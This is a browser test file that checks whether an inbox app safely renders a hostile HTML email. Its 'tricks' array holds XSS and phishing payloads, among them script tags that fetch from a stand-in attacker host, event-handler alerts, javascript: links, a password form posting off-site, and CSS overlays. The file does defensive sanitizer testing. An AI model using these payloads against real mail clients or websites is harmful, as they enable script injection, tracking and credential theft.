import { afterAll, afterEach, beforeAll, expect, test } from "vitest";

import { openPostOffice, type PostOffice } from "#tests/support/post-office.ts";
import { inboxOf } from "#tests/support/screens.ts";

let office: PostOffice;
beforeAll(async () => {
  office = await openPostOffice();
});
afterEach((context) => office.journey.endTest(context));
afterAll(() => office.close());

const evil = "https://evil.example.net";
const tricks = [
  `<script>alert(1); parent.taken = 1; fetch("${evil}/script")</script>`,
  `<style>* { position: fixed; background: url(${evil}/style) } @import "${evil}/import";</style>`,
  `<div style="position:fixed;inset:0;width:100vw;height:100vh;background:red url(${evil}/background);z-index:99999">Covered</div>`,
  `<div style="position:absolute;top:-4000px;margin-top:-4000px;margin-left:-900px">Moved</div>`,
  `<img src="x" onerror="alert(2)"><img src="${evil}/pixel.png"><img srcset="${evil}/set.png 1x" src="${evil}/large.png" width="4000" height="4000">`,
  `<form action="${evil}/form"><input name="password" autofocus onfocus="alert(3)"><button>Sign in</button></form>`,
  `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.parent.taken = 1</script>"></iframe>`,
  `<svg onload="alert(4)"><image href="${evil}/svg"></image></svg><math><mi xlink:href="javascript:alert(5)">x</mi></math>`,
  `<a href="javascript:alert(6)">Press here</a><a href="${evil}/link" ping="${evil}/ping" target="_top">Or here</a>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"><link rel="stylesheet" href="${evil}/sheet"><link rel="prefetch" href="${evil}/prefetch">`,
  `<video src="${evil}/video" autoplay poster="${evil}/poster"></video><audio src="${evil}/audio"></audio><object data="${evil}/object"></object><embed src="${evil}/embed">`,
  `<table background="${evil}/table"><tr><td style="background-image:url('${evil}/cell')">Cell</td></tr></table>`,
  `<p title="x style=" onclick="alert(7)" style="color:red;&#x62;ackground:u\\72l(${evil}/escaped)">Quoted</p>`,
  `<div style="width:9000px">${"wide".repeat(2_000)}</div>`,
];

test("100 kB of tricks run nothing, ask for nothing and cover nothing", async () => {
  const filler = "<p>The last line of a long letter.</p>".repeat(2_700);
  const row = await office.write({ subject: "Look at this", html: `${tricks.join("\n")}${filler}` });
  const page = await office.journey.open();
  const asked: string[] = [];
  const dialogs: string[] = [];
  page.context().on("request", (request) => asked.push(request.url()));
  page.context().on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => undefined);
  });
  const signedIn = await office.journey.agent({ path: "/inbox/all" });
  await page.context().addCookies(await signedIn.context().cookies());
  await page.goto(`${office.journey.product.url}/inbox/all/${row.id}`);
  const { log } = inboxOf(page);
  const letter = log.getByRole("article", { name: "Letter from Maya Lind" });
  const words = letter.frameLocator("iframe");
  await words.getByText("Covered").waitFor();
  await letter.getByText("images from elsewhere are not shown", { exact: false }).waitFor();

  const own = new URL(page.url()).origin;
  expect(asked.filter((url) => !url.startsWith(own) && !/^(?:data|blob|ws|about):/.test(url))).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => "taken" in window)).toBe(false);
  expect(
    await words.locator("script, style:not([nonce]), form, input, iframe, svg, object, video, base, link").count(),
  ).toBe(0);
  expect(
    await words.locator("[href^='javascript' i], [onclick], [onerror], [style*='url' i], [style*='fixed' i]").count(),
  ).toBe(0);

  // It stays where it is drawn, and the page is not wider for it.
  const inside = await letter.boundingBox();
  const frame = await letter.locator("iframe").boundingBox();
  expect(frame?.x).toBeGreaterThanOrEqual(inside?.x ?? 0);
  expect((frame?.x ?? 0) + (frame?.width ?? 0)).toBeLessThanOrEqual((inside?.x ?? 0) + (inside?.width ?? 0));
  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
  expect(await log.evaluate((box) => box.scrollWidth - box.clientWidth)).toBe(0);
  const covered = await page.evaluate(() => {
    const button = [...document.querySelectorAll("button")].find((each) => each.textContent?.includes("Resolve"));
    const box = button?.getBoundingClientRect();
    const top = box && document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return !button?.contains(top ?? null);
  });
  expect(covered).toBe(false);

  // Read from its beginning, whole, without a scroll bar of its own; the keys still belong to the inbox.
  const first = await letter.getByRole("heading", { name: "Maya Lind" }).boundingBox();
  expect(first?.y).toBeGreaterThan(50);
  expect(frame?.height).toBeGreaterThan(20_000);
  await words.getByText("Covered").click();
  await page.keyboard.press("n");
  await page.getByRole("textbox", { name: "Internal note" }).waitFor();
});
